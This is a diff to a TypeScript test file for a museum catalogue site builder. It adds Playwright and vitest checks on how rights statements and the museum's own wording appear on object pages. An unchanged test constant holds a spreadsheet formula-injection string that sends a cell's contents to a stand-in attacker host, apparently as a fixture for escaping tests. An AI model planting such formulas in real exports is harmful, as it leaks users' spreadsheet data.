@@ -4,6 +4,7 @@ import path from 'node:path';
 import { type Browser, chromium, type Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { buildCatalogueData, buildSite } from '../../pipeline/catalogue/index.ts';
+import { rightsNote, rightsOf } from '../../pipeline/catalogue/rights.ts';
 import type { Catalogue } from '../../pipeline/catalogue/schema.ts';
 import { memoryLogger } from '../../pipeline/log.ts';
 import { defaultParams } from '../../pipeline/params.ts';
@@ -25,6 +26,17 @@ declare function getComputedStyle(e: unknown): { direction: string };
 
 const ARABIC = 'إناء فخاري من العصر العباسي';
 const UNBREAKABLE = `=HYPERLINK("http://evil.example/?x="&A1,"Click")${'x'.repeat(120)}`;
+
+describe('rights note', () => {
+  it("keeps the museum's words only where they say more than the statement", () => {
+    expect(rightsNote(rightsOf('Public domain'))).toBeNull();
+    expect(rightsNote(rightsOf('CC0 1.0 Universal'))).toBeNull();
+    expect(rightsNote(rightsOf('In Copyright'))).toBeNull();
+    expect(rightsNote(rightsOf('http://creativecommons.org/licenses/by-nd/3.0/'))).toBeNull();
+    expect(rightsNote(rightsOf('CC0 (The Met Open Access)'))).toBe('CC0 (The Met Open Access)');
+    expect(rightsNote(rightsOf('Ask the registrar'))).toBe('Ask the registrar');
+  });
+});
 
 describe('visitor details on a built site', () => {
   let dir = '';
@@ -83,5 +95,23 @@ describe('visitor details on a built site', () => {
     expect(await objectHtml('DM-0004')).not.toContain('Suggest a correction');
     expect(review).not.toContain('Suggest a correction');
     expect(review).toContain('labels.csv');
+  });
+
+  it('says the rights once, linked to the statement, with the museum words only when they add to it', async () => {
+    const text = async (id: string) => {
+      await page.goto(`${site.url}objects/${slugOf(id)}/`);
+      return ((await page.locator('#rights').textContent()) ?? '').replace(/\s+/g, ' ');
+    };
+    const pd = await text('DM-0267');
+    expect(pd.match(/public domain/gi)).toHaveLength(1);
+    expect(await page.locator('#rights a[rel~="license"]').getAttribute('href')).toBe(
+      'https://creativecommons.org/publicdomain/mark/1.0/',
+    );
+    const cc0 = await text('DM-0002');
+    expect(cc0).toContain('CC0 1.0 Universal');
+    expect(cc0).toContain('CC0 (The Met Open Access)');
+    const unknown = await text('DM-0005');
+    expect(unknown.match(/Ask the registrar/g)).toHaveLength(1);
+    expect(await page.locator('#rights a[rel~="license"]').count()).toBe(0);
   });
 });
